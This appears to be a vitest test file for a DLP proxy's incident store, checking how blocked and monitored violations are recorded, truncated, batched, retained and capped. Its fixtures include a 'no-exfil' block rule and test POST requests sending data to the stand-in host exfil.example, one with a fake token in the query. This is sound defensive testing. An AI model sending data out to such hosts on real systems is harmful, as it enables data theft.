// The incident store in one process (startApp), key by key: each incidents.* key changes what is
// stored, and a record holds exactly the violation log line's fields (never the query string).
// The metrics say what was written, dropped and deleted, and how large the store is.
import fs from 'node:fs';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterEach, beforeAll, afterAll, describe, expect, it } from 'vitest';
import { IncidentStore, STORE_FILE } from '../../src/incidents/index.js';
import { CARD } from '../support/enforcement-suite.js';
import { incident } from '../support/incident-store-contract.js';
import { startOrigin, type Origin } from '../support/origin.js';
import { proxyRequest } from '../support/proxy-client.js';
import { freePort } from '../support/peers/common.js';
import { startTestProxy, tempCaDir, type TestProxy } from '../support/proxy-harness.js';
import { tempDir } from '../support/temp-dir.js';

const DAY = 86_400_000;
const caDir = tempCaDir();
const BLOCK_RULE = { name: 'no-exfil', match: { hosts: ['exfil.example'] }, action: 'block' };

describe('incidents in one process', () => {
  let proxy: TestProxy | undefined;
  let origin: Origin;
  beforeAll(async () => {
    origin = await startOrigin();
  });
  afterEach(async () => {
    await proxy?.close();
    proxy = undefined;
  });
  afterAll(async () => {
    await origin?.close();
  });

  const start = async (incidents: Record<string, unknown>, extra: Record<string, unknown> = {}) => {
    proxy = await startTestProxy({ policy: [BLOCK_RULE], incidents, ...extra }, { caDir });
    return proxy;
  };
  const block = async (port: number, query = '') => {
    const reply = await proxyRequest(port, `http://exfil.example/files/report.pdf${query}`, { method: 'POST', body: 'x' });
    expect(reply.status).toBe(403);
    return String(reply.headers['x-dlp-incident']);
  };

  it('records a block and a monitored violation with exactly the violation log fields, never the query', async () => {
    const icapPort = await freePort();
    const dir = tempDir('dlp-proxy-incidents-');
    const p = await start(
      { dir, batchMs: 20 },
      {
        icapServer: { enabled: true, port: icapPort },
        services: { dlp: { urls: [`icap://127.0.0.1:${icapPort}/dlp`] } },
        policy: [BLOCK_RULE, { name: 'watch-uploads', match: { direction: 'upload' }, scan: 'dlp', onViolation: 'monitor' }],
        admin: { enabled: true, port: 0 },
      },
    );
    const blocked = await block(p.port, '?token=s3cret');
    const monitored = await proxyRequest(p.port, `${origin.url}/upload?session=abc`, { method: 'POST', body: `card ${CARD}`, headers: { 'content-type': 'text/plain' } });
    expect(monitored.status).toBe(200);
    await p.app.incidentRecorder!.flush();
    const page = await p.app.incidents!.query({ limit: 10 });
    expect(page.total).toBe(2);
    const violationLines = p.logs.filter((l) => l.log === 'violation');
    expect(violationLines).toHaveLength(2);
    for (const line of violationLines) {
      const record = (await p.app.incidents!.getAll(String(line.incident)))[0]!;
      const { level: _l, time: _t, pid: _p, hostname: _h, log: _log, msg: _m, ...logFields } = line;
      // the same fields, the same values (an absent optional field is absent in both)
      expect(record).toEqual({ ...logFields, time: record.time });
      expect(JSON.stringify(record)).not.toMatch(/s3cret|session=|token=/);
      expect(Math.abs(Date.parse(record.time) - Date.now())).toBeLessThan(60_000);
    }
    expect((await p.app.incidents!.get(blocked))!).toMatchObject({ action: 'block', host: 'exfil.example', path: '/files/report.pdf', rule: 'no-exfil', source: 'policy' });
    expect(page.items.find((r) => r.action === 'monitor')).toMatchObject({ rule: 'watch-uploads', service: 'dlp', violations: expect.arrayContaining([expect.stringMatching(/card/i)]) });
    expect(fs.existsSync(path.join(dir, STORE_FILE))).toBe(true);

    const text = await p.app.metrics!.text();
    expect(text).toMatch(/^dlp_proxy_incidents_written_total 2$/m);
    expect(text).toMatch(/^dlp_proxy_incidents_dropped_total\{reason="queue_full"\} 0$/m);
    expect(text).toMatch(/^dlp_proxy_incident_queue_length 0$/m);
    const size = Number(/^dlp_proxy_incident_store_bytes (\d+)$/m.exec(text)?.[1]);
    expect(size).toBeGreaterThan(0);
  });

  it('bounds what a hostile client controls: a 50,000-character path is stored cut, never whole', async () => {
    const p = await start({ dir: tempDir('dlp-proxy-incidents-'), batchMs: 20 });
    const longPath = `/${'a'.repeat(50_000)}`;
    const reply = await proxyRequest(p.port, `http://exfil.example${longPath}`, { method: 'POST', body: 'x' });
    expect(reply.status).toBe(403);
    await p.app.incidentRecorder!.flush();
    const record = (await p.app.incidents!.get(String(reply.headers['x-dlp-incident'])))!;
    expect(record.path).toHaveLength(2048);
    expect(record.path.endsWith('…')).toBe(true);
    expect(longPath.startsWith(record.path.slice(0, -1))).toBe(true);
  });

  it('incidents.enabled: false records nothing and opens no file', async () => {
    const dir = path.join(tempDir('dlp-proxy-incidents-'), 'off');
    const p = await start({ enabled: false, dir });
    await block(p.port);
    expect(p.app.incidents).toBeUndefined();
    expect(p.app.incidentRecorder).toBeUndefined();
    expect(fs.existsSync(dir)).toBe(false);
  });

  it('incidents.batchMs: nothing is written before it, everything within it', async () => {
    const slow = await start({ dir: tempDir('dlp-proxy-incidents-'), batchMs: 60_000 });
    await block(slow.port);
    await sleep(300);
    expect((await slow.app.incidents!.query({ limit: 1 })).total).toBe(0);
    await slow.close();
    proxy = undefined;
    const fast = await start({ dir: tempDir('dlp-proxy-incidents-'), batchMs: 50 });
    const id = await block(fast.port);
    // written by the store's thread after the batch: far sooner than the slow one's minute
    await expect.poll(() => fast.app.incidents!.get(id), { timeout: 5000 }).toBeDefined();
  });

  it('incidents.queueSize: past it records are dropped and counted, the queued ones are written at close', async () => {
    const dir = tempDir('dlp-proxy-incidents-');
    const p = await start({ dir, queueSize: 2, batchMs: 60_000 }, { admin: { enabled: true, port: 0 } });
    const ids: string[] = [];
    for (let i = 0; i < 5; i++) ids.push(await block(p.port));
    expect(await p.app.metrics!.text()).toMatch(/^dlp_proxy_incidents_dropped_total\{reason="queue_full"\} 3$/m);
    expect(p.app.incidentRecorder!.stats()).toMatchObject({ queued: 2, dropped: { queue_full: 3 } });
    await p.close();
    proxy = undefined;
    const store = new IncidentStore({ dir, retentionDays: 90, maxBytes: 1 << 30 });
    try {
      expect(store.query({ limit: 10 }).items.map((r) => r.incident).sort()).toEqual(ids.slice(0, 2).sort());
    } finally {
      store.close();
    }
  });

  it('incidents.retentionDays: records older are deleted when the store opens (and every minute)', async () => {
    const dir = tempDir('dlp-proxy-incidents-');
    const old = incident({ time: new Date(Date.now() - 10 * DAY).toISOString() });
    const recent = incident({ time: new Date(Date.now() - 3 * DAY).toISOString() });
    const seed = new IncidentStore({ dir, retentionDays: 90, maxBytes: 1 << 30 });
    seed.insert([old, recent]);
    seed.close();
    const p = await start({ dir, retentionDays: 5 }, { admin: { enabled: true, port: 0 } });
    expect(await p.app.incidents!.get(old.incident)).toBeUndefined();
    expect(await p.app.incidents!.get(recent.incident)).toEqual(recent);
    expect(await p.app.metrics!.text()).toMatch(/^dlp_proxy_incidents_deleted_total\{reason="age"\} 1$/m);
  });

  it('incidents.maxBytes: a store over the cap is cut to it, oldest first, when it opens', async () => {
    const dir = tempDir('dlp-proxy-incidents-');
    const seed = new IncidentStore({ dir, retentionDays: 90, maxBytes: 1 << 30 });
    const t = Date.now() - DAY;
    for (let b = 0; b < 20; b++) seed.insert(Array.from({ length: 500 }, (_, i) => incident({ time: new Date(t + (b * 500 + i) * 1000).toISOString(), path: `/p/${'y'.repeat(60)}/${b * 500 + i}` })));
    const before = seed.count();
    expect(seed.sizeBytes()).toBeGreaterThan(3 * 1024 * 1024);
    seed.close();
    const maxBytes = 1024 * 1024;
    const p = await start({ dir, maxBytes }, { admin: { enabled: true, port: 0 } });
    // the cut runs in chunks in the store's thread, answering requests in between: wait for its end
    const storeBytes = async () => Number(/^dlp_proxy_incident_store_bytes (\d+)$/m.exec(await p.app.metrics!.text())?.[1]);
    for (let deadline = Date.now() + 20_000; (await storeBytes()) > maxBytes && Date.now() < deadline; ) await sleep(100);
    const page = await p.app.incidents!.query({ limit: 1 });
    expect(page.total).toBeLessThan(before / 2);
    expect(page.total).toBeGreaterThan(0);
    expect(page.items[0]!.path.endsWith(`/${before - 1}`)).toBe(true);
    const text = await p.app.metrics!.text();
    expect(await storeBytes()).toBeLessThanOrEqual(maxBytes);
    expect(Number(/^dlp_proxy_incidents_deleted_total\{reason="size"\} (\d+)$/m.exec(text)?.[1])).toBe(before - page.total);
    expect(fs.statSync(path.join(dir, STORE_FILE)).size).toBeLessThanOrEqual(maxBytes);
  });

  it('refuses to start when incidents.dir cannot hold the store', async () => {
    const file = path.join(tempDir('dlp-proxy-incidents-'), 'not-a-dir');
    fs.writeFileSync(file, '');
    await expect(start({ dir: file })).rejects.toMatchObject({ code: 'CONFIG_INVALID', message: expect.stringContaining('incidents.dir') });
  });
});
